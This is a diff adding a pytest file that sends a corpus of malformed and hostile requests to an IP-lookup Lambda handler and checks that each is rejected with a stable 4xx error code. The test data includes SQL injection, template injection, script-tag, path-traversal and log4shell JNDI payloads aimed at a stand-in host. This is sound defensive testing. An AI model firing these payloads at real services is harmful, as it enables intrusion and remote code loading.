@@ -1,0 +1,176 @@
+"""A corpus of hostile and malformed requests: every one gets a 4xx with a stable error code, none a 5xx."""
+
+from __future__ import annotations
+
+import base64
+import json
+from types import ModuleType
+from typing import Any, NamedTuple
+
+import pytest
+
+from tests.support import LambdaContext, event
+
+CODES = {
+    "INVALID_IP",
+    "MISSING_IP",
+    "BATCH_TOO_LARGE",
+    "INVALID_REQUEST",
+    "NOT_FOUND",
+    "UNKNOWN_DATASET",
+    "METHOD_NOT_ALLOWED",
+}
+
+
+class Hostile(NamedTuple):
+    name: str
+    method: str
+    path: str
+    query: dict[str, str] | None
+    body: str | None
+    status: int
+    code: str
+    base64: bool = False
+
+
+def ip(name: str, value: str, code: str = "INVALID_IP") -> Hostile:
+    return Hostile(name, "GET", "/lookup", {"ip": value, "dataset": "geo"}, None, 400, code)
+
+
+def dataset(name: str, value: str, status: int = 400, code: str = "INVALID_REQUEST") -> Hostile:
+    return Hostile(name, "GET", "/lookup", {"ip": "1.0.32.5", "dataset": value}, None, status, code)
+
+
+def post(name: str, body: str, status: int = 400, code: str = "INVALID_REQUEST", *, b64: bool = False) -> Hostile:
+    return Hostile(name, "POST", "/lookup", None, body, status, code, b64)
+
+
+def path(name: str, method: str, raw_path: str, status: int, code: str) -> Hostile:
+    return Hostile(name, method, raw_path, None, None, status, code)
+
+
+CORPUS = [
+    Hostile("no query at all", "GET", "/lookup", None, None, 400, "MISSING_IP"),
+    ip("empty ip", "", "MISSING_IP"),
+    ip("a space", " "),
+    ip("10,000 characters", "x" * 10_000),
+    ip("an address repeated", "1.2.3.4" * 100),
+    ip("octets over 255", "256.256.256.256"),
+    ip("three octets", "1.2.3"),
+    ip("five octets", "1.2.3.4.5"),
+    ip("leading zero", "01.2.3.4"),
+    ip("leading zero last", "1.2.3.04"),
+    ip("hex", "0x01020304"),
+    ip("integer", "16909060"),
+    ip("IPv4 prefix", "1.2.3.4/32"),
+    ip("IPv6 prefix", "2001:db8::/32"),
+    ip("zone id", "fe80::1%eth0"),
+    ip("encoded zone id", "fe80::1%25eth0"),
+    ip("mapped with a bad octet", "::ffff:1.2.3.256"),
+    ip("triple colon", "2001:db8:::1"),
+    ip("two double colons", "2001:db8::1::2"),
+    ip("five hex digits", "12345::"),
+    ip("nine groups", "2001:db8:0:0:0:0:0:0:1"),
+    ip("Arabic digits", "١.٢.٣.٤"),
+    ip("fullwidth digits", "１.２.３.４"),
+    ip("trailing newline", "1.2.3.4\n"),
+    ip("NUL", "1.2.3.4\x00"),
+    ip("leading tab", "\t1.2.3.4"),
+    ip("trailing space", "1.2.3.4 "),
+    ip("SQL injection", "' OR 1=1 --"),
+    ip("SQL injection after an address", "1.2.3.4'; DROP TABLE ranges;--"),
+    ip("template injection", "{{7*7}}"),
+    ip("log4shell", "${jndi:ldap://evil/a}"),
+    ip("script", "<script>alert(1)</script>"),
+    ip("path traversal", "../../etc/passwd"),
+    ip("duplicate parameters, joined by API Gateway", "1.2.3.4,5.6.7.8"),
+    ip("me twice", "me,me"),
+    ip("host name", "localhost"),
+    ip("half a mapped address", "::ffff:"),
+    ip("emoji", "😀"),
+    ip("percent-encoded", "%31.2.3.4"),
+    ip("control characters", "\x1b[31m1.2.3.4"),
+    dataset("dataset traversal", "../etc"),
+    dataset("empty dataset", ""),
+    dataset("65-character dataset", "a" * 65),
+    dataset("unicode dataset", "géo"),
+    dataset("dataset with a slash", "geo/../x"),
+    dataset("encoded dots", "%2e%2e"),
+    dataset("unknown dataset", "nope", 404, "UNKNOWN_DATASET"),
+    dataset("reports folder", "_reports"),
+    dataset("template dataset", "{{7*7}}"),
+    dataset("duplicate dataset parameters", "geo,geo"),
+    dataset("SQL dataset", "geo' OR '1'='1"),
+    path("unknown dataset record", "GET", "/datasets/nope", 404, "UNKNOWN_DATASET"),
+    path("encoded traversal", "GET", "/datasets/..%2F..%2Fetc", 400, "INVALID_REQUEST"),
+    path("raw traversal", "GET", "/datasets/../etc", 404, "NOT_FOUND"),
+    path("encoded NUL", "GET", "/datasets/%00", 400, "INVALID_REQUEST"),
+    path("encoded unicode", "GET", "/datasets/g%C3%A9o", 400, "INVALID_REQUEST"),
+    path("quoted SQL", "GET", "/datasets/'%20OR%201=1", 400, "INVALID_REQUEST"),
+    path("DELETE", "DELETE", "/lookup", 405, "METHOD_NOT_ALLOWED"),
+    path("PUT", "PUT", "/lookup", 405, "METHOD_NOT_ALLOWED"),
+    path("PATCH", "PATCH", "/lookup", 405, "METHOD_NOT_ALLOWED"),
+    path("HEAD", "HEAD", "/lookup", 405, "METHOD_NOT_ALLOWED"),
+    path("OPTIONS", "OPTIONS", "/lookup", 405, "METHOD_NOT_ALLOWED"),
+    path("POST to datasets", "POST", "/datasets", 405, "METHOD_NOT_ALLOWED"),
+    path("DELETE a dataset", "DELETE", "/datasets/geo", 405, "METHOD_NOT_ALLOWED"),
+    path("trailing slash", "GET", "/lookup/", 404, "NOT_FOUND"),
+    path("root", "GET", "/", 404, "NOT_FOUND"),
+    path("admin", "GET", "/admin", 404, "NOT_FOUND"),
+    path("upper case", "GET", "/LOOKUP", 404, "NOT_FOUND"),
+    path("dot segments", "GET", "/openapi.json/../lookup", 404, "NOT_FOUND"),
+    path("encoded NUL in the path", "GET", "/lookup%00", 404, "NOT_FOUND"),
+    path("a very long path", "GET", "/" + "a" * 5000, 404, "NOT_FOUND"),
+    post("empty body", ""),
+    post("truncated JSON", '{"ips": ["1.2.3.4"'),
+    post("null", "null"),
+    post("a list", "[]"),
+    post("a number", "123"),
+    post("ips null", '{"ips": null}'),
+    post("ips a string", '{"ips": "1.2.3.4"}'),
+    post("ips numbers", '{"ips": [1, 2]}'),
+    post("ips objects", '{"ips": [{"a": 1}]}'),
+    post("ips empty", '{"ips": []}'),
+    post("ips NaN", '{"ips": NaN}'),
+    post("dataset a number", '{"ips": ["1.2.3.4"], "dataset": 5}'),
+    post("unknown field", '{"ips": ["1.2.3.4"], "extra": true}'),
+    post("ip instead of ips", '{"ip": "1.2.3.4"}'),
+    post("trailing garbage", '{"ips": ["1.2.3.4"]} trailing'),
+    post("101 addresses", json.dumps({"ips": ["1.0.32.5"] * 101}), 400, "BATCH_TOO_LARGE"),
+    post("10,000 addresses", json.dumps({"ips": ["1.0.32.5"] * 10_000}), 400, "BATCH_TOO_LARGE"),
+    post("a megabyte of padding", " " * 1_000_000 + "{}", 400, "BATCH_TOO_LARGE"),
+    post("30,000 nested lists", "[" * 30_000 + "]" * 30_000),
+    post("invalid base64", "!!not base64", b64=True),
+    post("base64 of bytes that are not UTF-8", base64.b64encode(b"\xff\xfe\x00").decode(), b64=True),
+    post("control bytes", "\x00\x01\x02"),
+    post("dataset traversal in a batch", '{"ips": ["1.2.3.4"], "dataset": "../x"}'),
+    post("unknown dataset in a batch", '{"ips": ["1.2.3.4"], "dataset": "nope"}', 404, "UNKNOWN_DATASET"),
+]
+
+
+def _event(case: Hostile) -> dict[str, Any]:
+    ev = event("lookup-get")
+    ev["rawPath"] = ev["requestContext"]["http"]["path"] = case.path
+    ev["requestContext"]["http"]["method"] = case.method
+    ev.pop("queryStringParameters", None)
+    if case.query is not None:
+        ev["queryStringParameters"] = case.query
+    if case.body is not None:
+        ev["body"] = case.body
+        ev["isBase64Encoded"] = case.base64
+    return ev
+
+
+def test_the_corpus_is_large() -> None:
+    assert len(CORPUS) >= 60
+    assert len({case.name for case in CORPUS}) == len(CORPUS)
+
+
+@pytest.mark.parametrize("case", CORPUS, ids=[case.name for case in CORPUS])
+def test_hostile_requests_get_a_4xx_with_a_stable_code(lookup_handler: ModuleType, case: Hostile) -> None:
+    response = lookup_handler.handler(_event(case), LambdaContext())
+    body = json.loads(response["body"])
+    assert (response["statusCode"], body["error"]["code"]) == (case.status, case.code), body
+    assert body["error"]["code"] in CODES
+    assert response["headers"]["Content-Type"] == "application/json"
+    assert "Traceback" not in response["body"]
